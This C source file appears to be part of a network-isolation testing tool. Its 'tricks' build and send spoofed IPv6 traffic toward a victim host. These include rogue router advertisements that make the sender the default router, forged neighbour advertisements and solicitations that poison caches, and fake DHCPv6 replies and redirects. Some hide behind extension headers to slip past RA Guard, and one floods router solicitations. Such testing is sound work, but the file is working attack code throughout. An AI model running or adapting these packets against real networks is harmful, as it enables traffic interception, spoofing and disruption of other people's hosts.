/* IPv6: other senders, neighbour discovery, router advertisements, what hides behind extension headers. */
#include "tricks.h"

#include <stdlib.h>
#include <string.h>

static const uint8_t ALL_NODES[16] = {0xff, 2, [15] = 1}, ALL_NODES_MAC[6] = {0x33, 0x33, 0, 0, 0, 1}, ZERO[16] = {0},
                     LOOPBACK[16] = {[15] = 1};

static const uint8_t *victim_mac(struct world *w) {
    return set(w->victim_mac, 6) ? w->victim_mac : ALL_NODES_MAC;
}

static void packet(struct world *w, const uint8_t *station, const uint8_t *from, const uint8_t *to, int from_port, int to_port) {
    struct frame f, data = {.length = 0};
    mark(&data, w->trick);
    begin(&f, station, w->mac, 0x86dd);
    udp6(&f, from, to, from_port, to_port, data.bytes, data.length);
    transmit(w, &f);
}
static void source_foreign(struct world *w) {
    uint8_t from[16] = {0x20, 1, 0x0d, 0xb8, [15] = 0x77};
    packet(w, victim_mac(w), from, w->victim6, 7777, 7777);
}
static void source_neighbour(struct world *w) {
    uint8_t from[16];
    memcpy(from, w->ip6, 16);
    from[15] ^= 0x40;
    packet(w, victim_mac(w), from, w->victim6, 7777, 7777);
}
static void source_victim(struct world *w) { packet(w, w->service_mac, w->victim6, w->service6, 7777, 53); }
static void source_service(struct world *w) { packet(w, victim_mac(w), w->service6, w->victim6, 53, 7777); }
static void source_none(struct world *w) { packet(w, victim_mac(w), ZERO, w->victim6, 7777, 7777); }
static void source_loopback(struct world *w) { packet(w, victim_mac(w), LOOPBACK, w->victim6, 7777, 7777); }
static void source_multicast(struct world *w) { packet(w, victim_mac(w), ALL_NODES, w->victim6, 7777, 7777); }
static void source_mapped(struct world *w) {
    uint8_t from[16] = {[10] = 255, 255};
    memcpy(from + 12, w->victim, 4);
    packet(w, victim_mac(w), from, w->victim6, 7777, 7777);
}
static void source_link_local(struct world *w) {
    uint8_t from[16] = {0xfe, 0x80, [8] = 0x50, 0x54, 0, 0xff, 0xfe, 1, 2, 3};
    packet(w, victim_mac(w), from, w->victim6, 7777, 7777);
}
static void source_metadata(struct world *w) {
    uint8_t from[16] = {0xfe, 0x80, [12] = 0xa9, 0xfe, 0xa9, 0xfe};
    packet(w, victim_mac(w), from, w->victim6, 80, 7777);
}
static void to_foreign(struct world *w) {
    packet(w, set(w->gateway_mac, 6) ? w->gateway_mac : w->service_mac, w->ip6, w->foreign6, 7777, 7777);
}

/* The extension headers between IPv6 and ICMPv6. */
enum hiding { PLAIN, HOP_BY_HOP, DESTINATION, FRAGMENT_FIRST, CHAIN, ROUTING };

static void icmp(struct world *w, const uint8_t *station, const uint8_t *from, const uint8_t *to, const void *body, int size, enum hiding how) {
    struct frame f;
    int first[] = {58, 0, 60, 44, 0, 43};
    begin(&f, station, w->mac, 0x86dd);
    int header = begin_ip6(&f, from, to, first[how], 255);
    if (how == HOP_BY_HOP) put(&f, "\x3a\0\x01\x04\0\0\0\0", 8);
    if (how == DESTINATION) put(&f, "\x3a\0\x01\x04\0\0\0\0", 8);
    if (how == FRAGMENT_FIRST) put(&f, "\x3a\0\0\0\x59\x44\0\0", 8);
    if (how == CHAIN) put(&f, "\x3c\0\x01\x04\0\0\0\0\x2c\0\x01\x04\0\0\0\0\x3a\0\0\0\x59\x44\0\0", 24);
    if (how == ROUTING) put(&f, "\x3a\x02\0\x01\0\0\0\0", 8), put(&f, w->victim6, 16);
    int payload = f.length;
    put(&f, body, size);
    end_ip6(&f, header);
    sum6(&f, header, payload, 58, payload + 2);
    mark(&f, w->trick); /* behind the packet's end: only ears on the wire see it */
    transmit(w, &f);
}

/* A router advertisement that makes us the default router and gives a prefix of ours. */
static void advertise(struct world *w, const uint8_t *from, const uint8_t *station, const uint8_t *to, enum hiding how) {
    struct frame body = {.length = 0};
    uint8_t prefix[16] = {0x20, 1, 0x0d, 0xb8, 0xba, 0xd0};
    put(&body, "\x86\0\0\0\x40\x08\x07\x08\0\0\0\0\0\0\0\0", 16);
    put(&body, "\x01\x01", 2);
    put(&body, w->mac, 6);
    put(&body, "\x03\x04\x40\xc0\0\x01\0\0\0\x01\0\0\0\0\0\0", 16);
    put(&body, prefix, 16);
    icmp(w, station, from, to, body.bytes, body.length, how);
}
static void ra(struct world *w) { advertise(w, w->link6, ALL_NODES_MAC, ALL_NODES, PLAIN); }
static void ra_unicast(struct world *w) { advertise(w, w->link6, victim_mac(w), w->victim6, PLAIN); }
static void ra_hop_by_hop(struct world *w) { advertise(w, w->link6, ALL_NODES_MAC, ALL_NODES, HOP_BY_HOP); }
static void ra_destination(struct world *w) { advertise(w, w->link6, ALL_NODES_MAC, ALL_NODES, DESTINATION); }
static void ra_fragment(struct world *w) { advertise(w, w->link6, ALL_NODES_MAC, ALL_NODES, FRAGMENT_FIRST); }
static void ra_chain(struct world *w) { advertise(w, w->link6, ALL_NODES_MAC, ALL_NODES, CHAIN); }
static void ra_foreign(struct world *w) {
    uint8_t from[16] = {0xfe, 0x80, [15] = 1};
    advertise(w, from, ALL_NODES_MAC, ALL_NODES, PLAIN);
}

static void neighbour(struct world *w, int type, const uint8_t *from, const uint8_t *station, const uint8_t *to, const uint8_t *target,
    const uint8_t *link, enum hiding how) {
    struct frame body = {.length = 0};
    put8(&body, type), put8(&body, 0), put16(&body, 0);
    put32(&body, type == 136 ? 0x60000000 : 0);
    put(&body, target, 16);
    put8(&body, type == 136 ? 2 : 1), put8(&body, 1);
    put(&body, link, 6);
    icmp(w, station, from, to, body.bytes, body.length, how);
}
static void na_victim(struct world *w) { neighbour(w, 136, w->link6, ALL_NODES_MAC, ALL_NODES, w->victim6, w->mac, PLAIN); }
static void na_victim_as_victim(struct world *w) { neighbour(w, 136, w->victim6, ALL_NODES_MAC, ALL_NODES, w->victim6, w->mac, PLAIN); }
static void na_service(struct world *w) { neighbour(w, 136, w->link6, victim_mac(w), w->victim6, w->service6, w->mac, PLAIN); }
static void na_hidden(struct world *w) { neighbour(w, 136, w->link6, ALL_NODES_MAC, ALL_NODES, w->victim6, w->mac, DESTINATION); }
static void na_fragment(struct world *w) { neighbour(w, 136, w->link6, ALL_NODES_MAC, ALL_NODES, w->victim6, w->mac, FRAGMENT_FIRST); }
static void na_foreign_link(struct world *w) {
    uint8_t nobody[6] = {2, 0xbe, 0xef, 0, 0, 2};
    neighbour(w, 136, w->link6, ALL_NODES_MAC, ALL_NODES, w->ip6, nobody, PLAIN);
}
static void ns_poison(struct world *w) { neighbour(w, 135, w->service6, victim_mac(w), w->victim6, w->victim6, w->mac, PLAIN); }
static void ns_dad_victim(struct world *w) {
    struct frame body = {.length = 0};
    put(&body, "\x87\0\0\0\0\0\0\0", 8);
    put(&body, w->victim6, 16);
    icmp(w, ALL_NODES_MAC, ZERO, ALL_NODES, body.bytes, body.length, PLAIN);
}
static void redirect(struct world *w) {
    struct frame body = {.length = 0};
    put(&body, "\x89\0\0\0\0\0\0\0", 8);
    put(&body, w->link6, 16);
    put(&body, w->service6, 16);
    icmp(w, victim_mac(w), w->link6, w->victim6, body.bytes, body.length, PLAIN);
}
static void mld_query(struct world *w) {
    uint8_t body[24] = {130, 0, 0, 0, 0x27, 0x10};
    icmp(w, ALL_NODES_MAC, w->link6, ALL_NODES, body, 24, HOP_BY_HOP);
}
static void routing_header(struct world *w) {
    uint8_t body[16] = {128, 0, 0, 0, 0, 1, 0, 1};
    icmp(w, w->service_mac, w->ip6, w->service6, body, 16, ROUTING);
}
static void echo_foreign_chain(struct world *w) {
    uint8_t from[16] = {0x20, 1, 0x0d, 0xb8, [15] = 0x66}, body[16] = {128, 0, 0, 0, 0, 1, 0, 1};
    icmp(w, victim_mac(w), from, w->victim6, body, 16, CHAIN);
}

static void dhcp_answer(struct world *w, int kind) {
    struct frame f, data = {.length = 0};
    put8(&data, kind), put(&data, "\x59\x41\x44", 3);
    put(&data, "\0\x02\0\x0a\0\x03\0\x01", 8), put(&data, w->mac, 6);
    put(&data, "\0\x17\0\x10", 4), put(&data, w->link6, 16);
    mark(&data, w->trick);
    begin(&f, victim_mac(w), w->mac, 0x86dd);
    udp6(&f, w->link6, set(w->victim6, 16) ? w->victim6 : ALL_NODES, 547, 546, data.bytes, data.length);
    transmit(w, &f);
}
static void dhcp_advertise(struct world *w) { dhcp_answer(w, 2); }
static void dhcp_reply(struct world *w) { dhcp_answer(w, 7); }
static void dhcp_reconfigure(struct world *w) { dhcp_answer(w, 10); }
static void dhcp_hidden(struct world *w) {
    struct frame f;
    begin(&f, victim_mac(w), w->mac, 0x86dd);
    int header = begin_ip6(&f, w->link6, w->victim6, 60, 64);
    put(&f, "\x11\0\x01\x04\0\0\0\0", 8);
    int payload = f.length;
    put16(&f, 547), put16(&f, 546), put16(&f, 26), put16(&f, 0);
    put(&f, "\x07\x59\x41\x44", 4);
    mark(&f, w->trick);
    end_ip6(&f, header);
    sum6(&f, header, payload, 17, payload + 6);
    transmit(w, &f);
}
static void multicast_names(struct world *w) {
    uint8_t group[16] = {0xff, 2, [13] = 0xfb}, station[6] = {0x33, 0x33, 0, 0, 0, 0xfb};
    packet(w, station, w->victim6, group, 5353, 5353);
}
static void router_solicit_flood(struct world *w) {
    uint8_t body[8] = {133}, all_routers[16] = {0xff, 2, [15] = 2}, station[6] = {0x33, 0x33, 0, 0, 0, 2};
    for (int i = 0; i < 1000; i++) icmp(w, station, w->link6, all_routers, body, 8, PLAIN);
}
static void in_ip4(struct world *w) {
    struct frame f;
    begin(&f, w->service_mac, w->mac, 0x86dd);
    int header = begin_ip6(&f, w->ip6, w->service6, 4, 64);
    struct frame data = {.length = 0};
    mark(&data, w->trick);
    udp4(&f, w->ip, w->foreign, 7777, 7777, data.bytes, data.length);
    end_ip6(&f, header);
    transmit(w, &f);
}

const struct trick ip6_tricks[] = {
    {"ip6-source-foreign", source_foreign, NEEDS_VICTIM6},
    {"ip6-source-neighbour", source_neighbour, NEEDS_VICTIM6 | NEEDS_IP6},
    {"ip6-source-victim", source_victim, NEEDS_VICTIM6 | NEEDS_SERVICE6},
    {"ip6-source-service", source_service, NEEDS_VICTIM6 | NEEDS_SERVICE6},
    {"ip6-source-none", source_none, NEEDS_VICTIM6},
    {"ip6-source-loopback", source_loopback, NEEDS_VICTIM6},
    {"ip6-source-multicast", source_multicast, NEEDS_VICTIM6},
    {"ip6-source-mapped", source_mapped, NEEDS_VICTIM6 | NEEDS_VICTIM},
    {"ip6-source-link-local", source_link_local, NEEDS_VICTIM6},
    {"ip6-source-metadata", source_metadata, NEEDS_VICTIM6},
    {"ip6-to-foreign", to_foreign, NEEDS_FOREIGN6 | NEEDS_IP6},
    {"ra", ra, 0},
    {"ra-unicast", ra_unicast, NEEDS_VICTIM6},
    {"ra-foreign-source", ra_foreign, 0},
    {"ra-hop-by-hop", ra_hop_by_hop, 0},
    {"ra-destination-options", ra_destination, 0},
    {"ra-fragment-header", ra_fragment, 0},
    {"ra-chain", ra_chain, 0},
    {"na-victim", na_victim, NEEDS_VICTIM6},
    {"na-victim-as-victim", na_victim_as_victim, NEEDS_VICTIM6},
    {"na-service", na_service, NEEDS_VICTIM6 | NEEDS_SERVICE6},
    {"na-destination-options", na_hidden, NEEDS_VICTIM6},
    {"na-fragment-header", na_fragment, NEEDS_VICTIM6},
    {"na-foreign-link", na_foreign_link, NEEDS_IP6},
    {"ns-poison", ns_poison, NEEDS_VICTIM6 | NEEDS_SERVICE6},
    {"ns-dad-victim", ns_dad_victim, NEEDS_VICTIM6},
    {"ip6-redirect", redirect, NEEDS_VICTIM6 | NEEDS_SERVICE6},
    {"mld-query", mld_query, 0},
    {"ip6-routing-header", routing_header, NEEDS_VICTIM6 | NEEDS_SERVICE6 | NEEDS_IP6},
    {"ip6-echo-foreign-chain", echo_foreign_chain, NEEDS_VICTIM6},
    {"dhcp6-advertise", dhcp_advertise, NEEDS_VICTIM6},
    {"dhcp6-reply", dhcp_reply, NEEDS_VICTIM6},
    {"dhcp6-reconfigure", dhcp_reconfigure, NEEDS_VICTIM6},
    {"dhcp6-destination-options", dhcp_hidden, NEEDS_VICTIM6},
    {"ip6-multicast-names-as-victim", multicast_names, NEEDS_VICTIM6},
    {"router-solicit-flood", router_solicit_flood, 0},
    {"ip4-in-ip6", in_ip4, NEEDS_SERVICE6 | NEEDS_IP6 | NEEDS_FOREIGN},
    {0, 0, 0},
};
